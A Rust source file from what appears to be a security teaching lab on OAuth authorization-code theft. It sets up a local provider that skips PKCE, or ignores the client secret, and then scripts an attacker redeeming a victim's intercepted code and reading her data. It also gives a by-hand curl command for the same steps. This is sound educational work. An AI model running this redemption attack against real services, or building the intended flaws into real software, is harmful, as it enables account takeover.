//! A code that somebody else redeems.

use crate::{
    crew::{VICTIM, catch_callback, parameter, shown, told},
    lab::{Lab, Played, Side, Variant},
    small_client::{self, Endpoints, Flaw as ClientFlaw, Setup},
    small_provider::{self, Flaw},
    sound,
    stage::{CLIENT, PUBLIC, SECRET, Server, Stage, reserve},
};
use serde_json::Value;
use valetkey_browser::{Browser, Request};

pub(super) const PUBLIC_CLIENT: Lab = Lab {
    name: "stolen-code",
    title: "A public client's code, redeemed by somebody else",
    clause: "RFC 7636 1",
    attack: "The app has no secret. Bob's program on Alice's machine, or his proxy, reads the redirect that carries her code, and \
takes it to the token endpoint before the app does.",
    lesson: "Without a secret, whoever has the code is the client. PKCE gives each login a secret of its own: the provider saw its \
hash when the login began, and hands out a token only for the verifier itself, which never left the app.",
    by_hand,
    stage: |variant| Box::pin(stage(variant, true)),
    play: |stage| Box::pin(play(stage)),
};

pub(super) const CONFIDENTIAL: Lab = Lab {
    name: "stolen-code/confidential",
    title: "A code whose secret nobody asks for",
    clause: "RFC 6749 3.2.1",
    attack: "The app has a secret, but the provider does not look at it. Bob redeems Alice's code with the client id alone.",
    lesson: "A confidential client's secret protects its codes only if the token endpoint insists on it.",
    stage: |variant| Box::pin(stage(variant, false)),
    ..PUBLIC_CLIENT
};

fn by_hand(stage: &Stage) -> Vec<String> {
    vec![
        format!(
            "As Alice: open {}/login, sign in as alice, and stop at the redirect; copy the code.",
            stage.app
        ),
        format!(
            "As Bob: curl -d grant_type=authorization_code -d client_id={} -d redirect_uri={} -d code=… {}",
            stage.client_id, stage.redirect_uri, stage.token
        ),
    ]
}

async fn stage(variant: Variant, public: bool) -> Stage {
    if variant == Variant::With {
        return sound::app(public).await;
    }
    let (listener, origin) = reserve("localhost").await.unwrap_or_else(|e| panic!("{e}"));
    let flaw = if public {
        Flaw::PublicWithoutPkce
    } else {
        Flaw::SecretUnchecked
    };
    let provider = small_provider::start(flaw, &format!("{origin}/callback")).await;
    let base = provider.server.origin.clone();
    let client_id = if public { PUBLIC } else { CLIENT };
    let endpoints = Endpoints {
        issuer: base.clone(),
        authorization: format!("{base}/authorize"),
        token: format!("{base}/token"),
        userinfo: format!("{base}/userinfo"),
        client_id: client_id.into(),
        client_secret: (!public).then(|| SECRET.to_owned()),
    };
    let server = Server::on(listener, &origin, |origin| {
        small_client::router(Setup {
            flaw: ClientFlaw::NoPkce,
            origin: origin.to_owned(),
            providers: vec![("careless".into(), endpoints)],
        })
    });
    Stage::with_small_provider(provider, server, client_id, small_client::COOKIE.into())
}

async fn play(stage: &Stage) -> Played {
    let (bob, alice) = (Browser::new(), Browser::new());
    let caught = catch_callback(&alice, &format!("{}/login", stage.app), VICTIM).await?;
    let code = parameter(&caught, "code").ok_or("no code")?;
    let form = [
        ("grant_type", "authorization_code"),
        ("code", code.as_str()),
        ("redirect_uri", stage.redirect_uri.as_str()),
        ("client_id", stage.client_id.as_str()),
    ];
    let answer = bob
        .send(Request::post(&stage.token, &form).map_err(told)?)
        .await
        .map_err(told)?;
    let body: Value = serde_json::from_str(&answer.body).unwrap_or_default();
    let mut evidence = format!(
        "the token endpoint answered Bob with {} {}",
        answer.status, body["error"]
    );
    let mut succeeded = false;
    if let Some(token) = body["access_token"].as_str() {
        let request = Request::get(&stage.userinfo)
            .map_err(told)?
            .header("authorization", &format!("Bearer {token}"));
        let read: Value =
            serde_json::from_str(&bob.send(request).await.map_err(told)?.body).unwrap_or_default();
        succeeded = read["sub"] == VICTIM;
        evidence = format!(
            "Bob holds the access token {} and reads Alice's data with it: {}",
            shown(token),
            read["sub"]
        );
    }
    Ok(Side {
        succeeded,
        evidence,
        attacker: vec![
            format!(
                "Bob read Alice's code {} on its way to the app.",
                shown(&code)
            ),
            "He took it to the token endpoint, with what he knows: client id and redirect URI."
                .into(),
        ],
        victim: vec!["Alice saw a sign-in that broke off.".into()],
        code: None,
    })
}
